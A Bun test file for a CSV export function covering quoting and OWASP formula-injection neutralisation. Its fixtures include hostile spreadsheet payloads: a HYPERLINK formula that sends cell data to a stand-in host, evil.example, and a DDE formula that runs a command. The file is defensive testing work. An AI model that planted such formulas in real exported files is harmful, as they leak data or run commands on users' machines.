import { expect, test } from "bun:test";
import { toCsv } from "./csv.ts";

test("quotes cells with commas, quotes or line breaks; nulls are empty", () => {
  expect(toCsv([{ a: 1, b: 'say "hi", then go', c: null }])).toBe('a,b,c\r\n1,"say ""hi"", then go",\r\n');
  expect(toCsv([])).toBe("\r\n");
});

test("formula injection (OWASP): text starting with = + - @ tab or CR is neutralised, numbers are not", () => {
  const rows = [
    { name: '=HYPERLINK("http://evil.example/?"&A1,"click")', n: -3 },
    { name: "+1+cmd|' /C calc'!A0", n: "-2.50" },
    { name: "-2+3", n: 0 },
    { name: "@SUM(A1:A9)", n: "1e3" },
    { name: "\tTab", n: 1 },
    { name: "\rCR", n: 1 },
    { name: "Campaign_1_2 = fine", n: 1 },
  ];
  expect(toCsv(rows).split("\r\n")).toEqual([
    "name,n",
    `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-3`,
    "'+1+cmd|' /C calc'!A0,-2.50",
    "'-2+3,0",
    "'@SUM(A1:A9),1e3",
    "'\tTab,1",
    `"'\rCR",1`,
    "Campaign_1_2 = fine,1",
    "",
  ]);
});
